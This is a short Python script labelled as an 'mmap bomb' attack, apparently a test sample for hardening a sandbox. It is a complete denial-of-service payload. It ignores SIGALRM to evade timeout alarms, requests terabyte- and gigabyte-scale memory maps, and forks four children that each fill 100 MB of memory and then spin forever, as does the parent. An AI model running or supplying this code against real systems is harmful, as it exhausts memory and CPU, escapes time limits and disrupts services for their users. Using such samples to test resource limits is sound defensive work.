# attack: mmap bomb - huge anonymous maps, then shared maps touched in 4 forked children
import contextlib
import mmap
import os
import signal

signal.signal(signal.SIGALRM, signal.SIG_IGN)
for size in (1 << 40, 1 << 34, 1 << 30):
    with contextlib.suppress(OSError, OverflowError, ValueError):
        mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
for _ in range(4):
    if os.fork() == 0:
        region = mmap.mmap(-1, 100 * 1024 * 1024)
        for offset in range(0, len(region), 4096):
            region[offset] = 1
        while True:
            pass
while True:
    pass
